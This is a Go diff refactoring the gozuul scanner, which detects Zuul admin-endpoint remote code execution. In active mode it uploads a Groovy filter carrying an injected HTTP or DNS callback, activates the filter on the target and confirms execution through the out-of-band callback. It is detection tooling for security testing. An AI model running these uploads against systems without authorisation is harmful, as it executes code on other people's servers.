@@ -7,7 +7,7 @@ package gozuul
 
 import (
 	"bytes"
-	"crypto/tls"
+	"context"
 	"errors"
 	"fmt"
 	"io"
@@ -20,7 +20,6 @@ import (
 	"time"
 
 	"github.com/adevinta/gozuul/resources"
-	"golang.org/x/net/html"
 )
 
 const (
@@ -32,9 +31,16 @@ const (
 	vulnerableDork      = "Usage: /scriptManager?action=<ACTION_TYPE>&<ARGS>"
 	cassandraDork       = "HystrixCassandraPut"
 	callbackPlaceholder = "http://__HOSTPORT_PLACEHOLDER__/callback/__SCAN_PLACEHOLDER__"
+	dnsPlaceholder      = "__DNS_PLACEHOLDER__"
+	dnsScheme           = "dns:"
 	vcheckFilename      = "Vulncheck.groovy"
+	vcheckDNSFilename   = "VulncheckDNS.groovy"
 )
 
+// filterWaitUnit is the first waiting time of waitFilterEnabled, which is
+// doubled after every check. Tests shrink it to avoid waiting for a minute.
+var filterWaitUnit = time.Second
+
 // ResultSet contains the resulting details of a passive or active scan.
 // PrevEnabled indicates whether the Vulncheck.groovy filter was previously
 // enabled in the scanned target or not.
@@ -43,22 +49,75 @@ const (
 // Vulnerable indicates wheter the target endpoint is vulnerable or not, while
 // MightVulnerable indicates that the target is possibly vulnerable but can not
 // be confirmed.
+// Verdict summarizes the outcome of the scan, and Reason explains how the
+// verdict was reached. The legacy booleans are kept in sync with the verdict,
+// except that Vulnerable is not set when the verdict comes from PrevEnabled.
+// Prefix is the context path under which the admin servlets were found, when
+// the Scanner is configured with candidate context paths and one of them
+// matched.
+// Evidence contains the HTTP exchanges made during the scan, when the Scanner
+// is configured to record them.
 type ResultSet struct {
-	PrevEnabled     bool
-	AdminDisabled   bool
-	Vulnerable      bool
-	MightVulnerable bool
+	Verdict         Verdict    `json:"verdict"`
+	Reason          string     `json:"reason"`
+	Prefix          string     `json:"prefix,omitempty"`
+	PrevEnabled     bool       `json:"prev_enabled"`
+	AdminDisabled   bool       `json:"admin_disabled"`
+	Vulnerable      bool       `json:"vulnerable"`
+	MightVulnerable bool       `json:"might_vulnerable"`
+	Evidence        []Exchange `json:"evidence,omitempty"`
 }
 
-// PassiveScan executes a new passive scan against the specified target.
+// PassiveScan executes a new passive scan against the specified target using
+// the default Scanner.
 func PassiveScan(target string) (ResultSet, error) {
-	rs := ResultSet{}
+	return defaultScanner.PassiveScan(target)
+}
+
+// PassiveScanContext is like PassiveScan but honors the cancellation and
+// deadline of the given context.
+func PassiveScanContext(ctx context.Context, target string) (ResultSet, error) {
+	return defaultScanner.PassiveScanContext(ctx, target)
+}
+
+// ActiveScan executes a new active scan against the specified target using
+// the default Scanner. See Scanner.ActiveScan for details.
+func ActiveScan(target, callback string, callbackRec chan bool) (ResultSet, error) {
+	return defaultScanner.ActiveScan(target, callback, callbackRec)
+}
+
+// ActiveScanContext is like ActiveScan but honors the cancellation and
+// deadline of the given context.
+func ActiveScanContext(ctx context.Context, target, callback string, callbackRec chan bool) (ResultSet, error) {
+	return defaultScanner.ActiveScanContext(ctx, target, callback, callbackRec)
+}
+
+// PassiveScan executes a new passive scan against the specified target.
+func (s *Scanner) PassiveScan(target string) (ResultSet, error) {
+	return s.PassiveScanContext(context.Background(), target)
+}
+
+// PassiveScanContext executes a new passive scan against the specified
+// target. Every HTTP request made during the scan honors the cancellation and
+// deadline of the given context.
+func (s *Scanner) PassiveScanContext(ctx context.Context, target string) (rs ResultSet, err error) {
+	ctx, rec := s.withRecorder(ctx)
+	defer func() {
+		rs.setErrorVerdict(err)
+		rs.Evidence = rec.evidence()
+	}()
 
 	if target == "" {
 		return rs, fmt.Errorf("arguments can not be nil, target: %s", target)
 	}
 
-	res, err := upload(target+uploadEndpoint, newStrFile(""), "Emptyfile.groovy")
+	rs.Prefix, err = s.adminPrefix(ctx, target)
+	if err != nil {
+		return rs, err
+	}
+	base := target + rs.Prefix
+
+	res, err := s.upload(ctx, base+s.endpoints.Upload, newStrFile(""), "Emptyfile.groovy")
 	if err != nil {
 		return rs, err
 	}
@@ -68,54 +127,90 @@ func PassiveScan(target string) (ResultSet, error) {
 	case http.StatusBadRequest:
 		body, err := ioutil.ReadAll(res.Body)
 		if err != nil {
-			return rs, err
+			return rs, s.requestError(res.Request, PhaseUpload, err)
+		}
+		if strings.Contains(string(body), vulnerableDork) {
+			rs.setVerdict(VerdictVulnerable, "script manager accepted the upload request and returned its usage banner")
+		} else {
+			rs.setVerdict(VerdictInconclusive, "upload request rejected without the script manager usage banner")
 		}
-		rs.Vulnerable = strings.Contains(string(body), vulnerableDork)
 	case http.StatusForbidden:
 		// Possibly admin portal explicitly disabled. Not vulnerable case.
-		rs.AdminDisabled = true
+		rs.setVerdict(VerdictAdminDisabled, "upload request forbidden")
+	case http.StatusUnauthorized:
+		rs.setVerdict(VerdictAuthRequired, "upload request requires authentication")
+	case http.StatusNotFound:
+		rs.setVerdict(VerdictNotZuul, "script manager endpoint not found")
+	default:
+		rs.setVerdict(VerdictInconclusive, fmt.Sprintf("unexpected upload response: %s", res.Status))
 	}
 
 	return rs, nil
 }
 
-// Active executes a new active scan against the specified target.
+// ActiveScan executes a new active scan against the specified target.
 // The callback parameter is also a URL that wll be injected in the filter that
 // will be uploaded to the target.
 // The objective is to see whether a callback is received or not (what would be
 // an evidence of RCE).
 // The callback reception must be handled by the caller and, when a callback
 // is received, the caller should write in the callbackRec channel.
-func ActiveScan(target, callback string, callbackRec chan bool) (rs ResultSet, err error) {
+// When the callback is a DNS URI (for instance "dns:token.oob.example.com")
+// the uploaded filter makes a DNS lookup of the host instead of an HTTP
+// request, for the targets that can not reach the caller over HTTP.
+func (s *Scanner) ActiveScan(target, callback string, callbackRec chan bool) (ResultSet, error) {
+	return s.ActiveScanContext(context.Background(), target, callback, callbackRec)
+}
+
+// ActiveScanContext is like ActiveScan but every HTTP request and every wait
+// for the uploaded filter to become active honors the cancellation and
+// deadline of the given context.
+func (s *Scanner) ActiveScanContext(ctx context.Context, target, callback string, callbackRec chan bool) (rs ResultSet, err error) {
+	ctx, rec := s.withRecorder(ctx)
+	defer func() {
+		rs.setErrorVerdict(err)
+		rs.Evidence = rec.evidence()
+	}()
+
 	if target == "" {
 		return rs, fmt.Errorf("target can not be empty, target: %s", target)
 	} else if callbackRec == nil || cap(callbackRec) < 1 {
 		return rs, fmt.Errorf("channel can not be nil and must be buffered. callbackRec: %v, capacity: %v", callbackRec, cap(callbackRec))
 	}
 
+	rs.Prefix, err = s.adminPrefix(ctx, target)
+	if err != nil {
+		return rs, err
+	}
+	base := target + rs.Prefix
+
 	// Check if filter is already enabled before continue with the scan.
-	enabled, err := isFilterEnabled(target + vcheckEndpoint)
+	enabled, err := s.isFilterEnabled(ctx, PhaseCheckFilter, base+s.endpoints.Check)
 	if err != nil {
 		return rs, err
 	} else if enabled == true {
 		rs.PrevEnabled = true
+		// The legacy Vulnerable boolean keeps its previous meaning, as the
+		// scan itself has not proved anything.
+		rs.Verdict = VerdictVulnerable
+		rs.Reason = "Vulncheck filter was already enabled before the scan"
 		return rs, nil
 	}
 
 	// Get the biggest revision of the Vulnchek filter (if any).
-	filters, err := recentFilters(target + filtersEndpoint)
+	filters, err := s.recentFilters(ctx, base+s.endpoints.FilterLoader)
 	if err != nil {
 		return rs, err
 	}
 	cRev := filters[vcheckID]
 
 	// Upload the filter and handle response.
-	if terminate, err := handleActiveUpload(target+uploadEndpoint, callback, &rs); terminate || (err != nil) {
+	if terminate, err := s.handleActiveUpload(ctx, base+s.endpoints.Upload, callback, &rs); terminate || (err != nil) {
 		return rs, err
 	}
 
 	// Get again the biggest revision of the Vulnchek filter (if any).
-	filters, err = recentFilters(target + filtersEndpoint)
+	filters, err = s.recentFilters(ctx, base+s.endpoints.FilterLoader)
 	if err != nil {
 		return rs, err
 	}
@@ -127,7 +222,7 @@ func ActiveScan(target, callback string, callbackRec chan bool) (rs ResultSet, e
 	// indicates that our code has been executed in the target.
 	select {
 	case <-callbackRec:
-		rs.Vulnerable = true
+		rs.setVerdict(VerdictVulnerable, "callback received from the uploaded filter")
 		return rs, nil
 	default:
 		// Callback not received at this point. Continue with the filter checking approach.
@@ -136,52 +231,47 @@ func ActiveScan(target, callback string, callbackRec chan bool) (rs ResultSet, e
 	}
 
 	if nRev <= cRev {
-		return rs, fmt.Errorf("revision didn't increase after filter upload. prev: %v. curr: %v", cRev, nRev)
+		return rs, &ScanError{
+			Kind:  ErrRevisionNotIncreased,
+			Phase: PhaseUpload,
+			URL:   base + s.endpoints.FilterLoader,
+			Err:   fmt.Errorf("prev: %v. curr: %v", cRev, nRev),
+		}
 	}
 
 	// Activate the filter and wait some time until it becomes active.
-	err = activateFilterAndCheck(target, nRev, &rs)
+	err = s.activateFilterAndCheck(ctx, base, nRev, &rs)
 
 	return rs, err
 }
 
 // activateFilterAndCheck activates the filter, waits some time until it becomes active,
 // and checks whether it is enabled or not (what means that the target is vulnerable).
-func activateFilterAndCheck(target string, nRev int, rs *ResultSet) error {
-	if err := setFilterAction(target+setFilterEndpoint, vcheckID, "ACTIVATE", nRev); err != nil {
+func (s *Scanner) activateFilterAndCheck(ctx context.Context, target string, nRev int, rs *ResultSet) error {
+	if err := s.setFilterAction(ctx, target+s.endpoints.ScriptManager, vcheckID, "ACTIVATE", nRev); err != nil {
 		return err
 	}
 
-	enabled := false
-
-	// For a maximum of 63 seconds wait for the filter to become enabled,
-	// increasing the waiting time twice every time.
-	for i := 0; i < 6; i++ {
-		var err error
-
-		// Check if the filter is enabled. If it is, the target is vulnerable.
-		enabled, err = isFilterEnabled(target + vcheckEndpoint)
-		if err != nil {
-			return err
-		}
-
-		if enabled {
-			break
-		}
-
-		ts := 1 << uint(i) * time.Second
-		time.Sleep(ts)
+	// Check if the filter is enabled. If it is, the target is vulnerable.
+	enabled, err := s.waitFilterEnabled(ctx, PhaseActivate, target+s.endpoints.Check, true)
+	if err != nil {
+		return err
 	}
 
-	rs.Vulnerable = enabled
 	if !enabled {
-		return errors.New("unexpected error, filter seems to have been uploaded but not activated")
+		return &ScanError{Kind: ErrActivationTimeout, Phase: PhaseActivate, URL: target + s.endpoints.Check}
 	}
+	rs.setVerdict(VerdictVulnerable, "uploaded filter was activated and served the check endpoint")
 
 	// Deactivate the filter. We did it as a good practice, but doesn't seems
 	// to work in our tests (at least without restarting the target).
-	if err := setFilterAction(target+setFilterEndpoint, vcheckID, "DEACTIVATE", nRev); err != nil {
-		return err
+	if err := s.setFilterAction(ctx, target+s.endpoints.ScriptManager, vcheckID, "DEACTIVATE", nRev); err != nil {
+		serr := &ScanError{Kind: ErrDeactivation, Phase: PhaseDeactivate, URL: target + s.endpoints.ScriptManager, Err: err}
+		var cause *ScanError
+		if errors.As(err, &cause) {
+			serr.StatusCode = cause.StatusCode
+		}
+		return serr
 	}
 
 	return nil
@@ -192,11 +282,10 @@ func activateFilterAndCheck(target string, nRev int, rs *ResultSet) error {
 // uploading the file and handling the different responses that might be received.
 // It returns a bool that indicates if the caller should continue with the Scan
 // or if it should finish it returning the current ResultSet.
-func handleActiveUpload(target, callback string, rs *ResultSet) (shouldReturn bool, err error) {
-	r := strings.NewReplacer(callbackPlaceholder, callback)
-	newVC := newStrFile(r.Replace(resources.Files[vcheckFilename]))
+func (s *Scanner) handleActiveUpload(ctx context.Context, target, callback string, rs *ResultSet) (shouldReturn bool, err error) {
+	newVC := newStrFile(vcheckPayload(callback))
 
-	res, err := upload(target, newVC, vcheckFilename)
+	res, err := s.upload(ctx, target, newVC, vcheckFilename)
 	if err != nil {
 		return true, err
 	}
@@ -208,28 +297,48 @@ func handleActiveUpload(target, callback string, rs *ResultSet) (shouldReturn bo
 		return false, nil
 	case http.StatusForbidden:
 		// Possibly admin portal explicitly disabled. Not vulnerable case.
-		rs.AdminDisabled = true
+		rs.setVerdict(VerdictAdminDisabled, "filter upload forbidden")
+	case http.StatusUnauthorized:
+		rs.setVerdict(VerdictAuthRequired, "filter upload requires authentication")
+	case http.StatusNotFound:
+		rs.setVerdict(VerdictNotZuul, "script manager endpoint not found")
 	case http.StatusInternalServerError:
 		// Might be vulnerable depending on the response body contents.
 		body, err := ioutil.ReadAll(res.Body)
 		if err != nil {
-			return true, err
+			return true, s.requestError(res.Request, PhaseUpload, err)
 		}
 		if strings.Contains(string(body), cassandraDork) {
 			// Cassandra is not enabled, but might be vulnerable. The ability to receive the injected callback
 			// is important to be sure if it is.
-			rs.MightVulnerable = true
+			rs.setVerdict(VerdictPossiblyVulnerable, "filter upload failed because Cassandra is not available")
+			break
 		}
 		// A InternalServerError without the Cassandra dork shouldn't be vulnerable.
+		rs.setVerdict(VerdictNotVulnerable, "filter upload failed")
+	default:
 		// Other cases shouldn't be vulnerable neither.
+		rs.setVerdict(VerdictNotVulnerable, fmt.Sprintf("filter upload rejected: %s", res.Status))
 	}
 
 	return true, nil
 }
 
+// vcheckPayload returns the source of the Vulncheck filter with the callback
+// injected. DNS callbacks use the variant of the filter that makes a DNS
+// lookup instead of an HTTP request.
+func vcheckPayload(callback string) string {
+	if strings.HasPrefix(callback, dnsScheme) {
+		host := strings.TrimPrefix(strings.TrimPrefix(callback, dnsScheme), "//")
+		return strings.Replace(resources.Files[vcheckDNSFilename], dnsPlaceholder, host, -1)
+	}
+
+	return strings.Replace(resources.Files[vcheckFilename], callbackPlaceholder, callback, -1)
+}
+
 // upload a file to the target URL and return the http.Response to be
 // evaluated by the caller.
-func upload(URL string, f multipart.File, filename string) (res *http.Response, err error) {
+func (s *Scanner) upload(ctx context.Context, URL string, f multipart.File, filename string) (res *http.Response, err error) {
 	// Prepare a form for submitting to that URL.
 	var b bytes.Buffer
 	w := multipart.NewWriter(&b)
@@ -248,7 +357,7 @@ func upload(URL string, f multipart.File, filename string) (res *http.Response,
 	w.Close()
 
 	// Now that you have a form, you can submit it to your handler.
-	req, err := http.NewRequest("POST", URL, &b)
+	req, err := http.NewRequestWithContext(ctx, "POST", URL, &b)
 	if err != nil {
 		return
 	}
@@ -256,24 +365,13 @@ func upload(URL string, f multipart.File, filename string) (res *http.Response,
 	req.Header.Set("Content-Type", w.FormDataContentType())
 
 	// Submit the request
-	timeout := 5 * time.Second
-	tr := &http.Transport{
-		TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
-	}
-	client := &http.Client{
-		CheckRedirect: func(req *http.Request, via []*http.Request) error {
-			return http.ErrUseLastResponse
-		},
-		Transport: tr,
-		Timeout:   timeout,
-	}
-	res, err = client.Do(req)
+	res, err = s.do(req, PhaseUpload)
 
 	return
 }
 
-func isFilterEnabled(URL string) (enabled bool, err error) {
-	tin, err := quickGet(URL)
+func (s *Scanner) isFilterEnabled(ctx context.Context, phase Phase, URL string) (enabled bool, err error) {
+	tin, err := s.quickGet(ctx, phase, URL)
 	if err != nil {
 		return false, err
 	}
@@ -281,104 +379,57 @@ func isFilterEnabled(URL string) (enabled bool, err error) {
 	return tin.status == http.StatusOK && tin.body == "vulnerable", nil
 }
 
-// recentFilters gets the list of zuul filters present in the target.
-// If a filter has more than one revision, it will return the biggest.
-func recentFilters(URL string) (filters map[string]int, err error) {
-	tin, err := quickGet(URL)
-	if err != nil {
-		return nil, err
-	}
-
-	if tin.status != http.StatusOK {
-		return nil, fmt.Errorf("unexpected status code when accessing %s", URL)
-	}
-
-	doc, err := html.Parse(strings.NewReader(tin.body))
-	if err != nil {
-		return nil, err
-	}
-
-	filters = make(map[string]int)
-
-	err = parseFilterLoader(doc, filters)
-
-	return filters, err
-}
-
-// parseFilterLoader parses recursively the html.Nodes to get the href links.
-// Those links should contain the IDs of the filters that the target owns,
-// and their revision numbers.
-func parseFilterLoader(n *html.Node, filters map[string]int) error {
-	// Stop recursion.
-	if n == nil {
-		return nil
-	}
-
-	// Recursive calls for all the child of the current html.Node.
-	for c := n.FirstChild; c != nil; c = c.NextSibling {
-		if err := parseFilterLoader(c, filters); err != nil {
-			return err
+// waitFilterEnabled waits for a maximum of 63 times filterWaitUnit, 63
+// seconds by default, for the filter to become enabled, or disabled if want
+// is false, increasing the waiting time twice every time. It returns whether the filter was enabled the last time
+// it was checked.
+func (s *Scanner) waitFilterEnabled(ctx context.Context, phase Phase, URL string, want bool) (enabled bool, err error) {
+	for i := 0; i < 6; i++ {
+		enabled, err = s.isFilterEnabled(ctx, phase, URL)
+		if err != nil {
+			return false, err
 		}
-	}
-
-	// We are only interested on "a" elements.
-	if n.Type != html.ElementNode || n.Data != "a" {
-		return nil
-	}
 
-	// We are only interested in "href" attribute.
-	for _, a := range n.Attr {
-		if a.Key != "href" {
-			continue
+		if enabled == want {
+			break
 		}
 
-		u, err := url.Parse(a.Val)
-		if err != nil {
-			return err
+		ts := 1 << uint(i) * filterWaitUnit
+		if err := sleep(ctx, ts); err != nil {
+			return false, err
 		}
+	}
 
-		q := u.Query()
-
-		// id will contain "origin:Vulncheck:pre" for the case of the vulncheck
-		// filter.
-		id := q["filter_id"][0]
-		rev, err := strconv.Atoi(q["revision"][0])
-		if err != nil {
-			return err
-		}
+	return enabled, nil
+}
 
-		// Only store the most recent revision.
-		if rev > filters[id] {
-			filters[id] = rev
-		}
-		break
+// recentFilters gets the list of zuul filters present in the target.
+// If a filter has more than one revision, it will return the biggest.
+func (s *Scanner) recentFilters(ctx context.Context, URL string) (filters map[string]int, err error) {
+	list, err := s.listFilters(ctx, URL)
+	if err != nil {
+		return nil, err
 	}
 
-	return nil
+	return NewInventory(list), nil
 }
 
-// tinyHTTPRes contains the status and body of an http.Response.
+// tinyHTTPRes contains the status, headers and body of an http.Response.
 type tinyHTTPRes struct {
 	status int
+	header http.Header
 	body   string
 }
 
 // quickGet makes a HTTP GET to the specified URL and returns the tinyHTTPRes
 // related.
-func quickGet(URL string) (tin *tinyHTTPRes, err error) {
-	timeout := 5 * time.Second
-	tr := &http.Transport{
-		TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
-	}
-	client := &http.Client{
-		CheckRedirect: func(req *http.Request, via []*http.Request) error {
-			return http.ErrUseLastResponse
-		},
-		Transport: tr,
-		Timeout:   timeout,
+func (s *Scanner) quickGet(ctx context.Context, phase Phase, URL string) (tin *tinyHTTPRes, err error) {
+	req, err := http.NewRequestWithContext(ctx, "GET", URL, nil)
+	if err != nil {
+		return
 	}
 
-	res, err := client.Get(URL)
+	res, err := s.do(req, phase)
 	if err != nil {
 		return
 	}
@@ -386,36 +437,50 @@ func quickGet(URL string) (tin *tinyHTTPRes, err error) {
 
 	body, err := ioutil.ReadAll(res.Body)
 	if err != nil {
-		return
+		return nil, s.requestError(req, phase, err)
 	}
 
-	return &tinyHTTPRes{res.StatusCode, string(body)}, nil
+	return &tinyHTTPRes{res.StatusCode, res.Header, string(body)}, nil
 }
 
 // setFilterAction makes a request to the target to change the action (state)
 // of a zuul filter, for its specified revision.
-func setFilterAction(URL, id, action string, rev int) error {
-	timeout := 5 * time.Second
-	tr := &http.Transport{
-		TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
+func (s *Scanner) setFilterAction(ctx context.Context, URL, id, action string, rev int) error {
+	data := url.Values{"filter_id": {id}, "action": {action}, "revision": {strconv.Itoa(rev)}}
+	req, err := http.NewRequestWithContext(ctx, "POST", URL, strings.NewReader(data.Encode()))
+	if err != nil {
+		return err
 	}
-	client := &http.Client{
-		CheckRedirect: func(req *http.Request, via []*http.Request) error {
-			return http.ErrUseLastResponse
-		},
-		Transport: tr,
-		Timeout:   timeout,
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+
+	phase := PhaseActivate
+	if action == "DEACTIVATE" {
+		phase = PhaseDeactivate
 	}
 
-	res, err := client.PostForm(URL, url.Values{"filter_id": {id}, "action": {action}, "revision": {strconv.Itoa(rev)}})
+	res, err := s.do(req, phase)
 	if err != nil {
 		return err
 	}
 	defer res.Body.Close()
 
 	if res.StatusCode != http.StatusFound {
-		return fmt.Errorf("unexpected response when setting Filter action. %s", res.Status)
+		return &ScanError{Kind: ErrUnexpectedStatus, Phase: phase, URL: URL, StatusCode: res.StatusCode}
 	}
 
 	return nil
 }
+
+// sleep pauses the current goroutine for the given duration or until the
+// context is done, whatever happens first.
+func sleep(ctx context.Context, d time.Duration) error {
+	t := time.NewTimer(d)
+	defer t.Stop()
+
+	select {
+	case <-ctx.Done():
+		return ctx.Err()
+	case <-t.C:
+		return nil
+	}
+}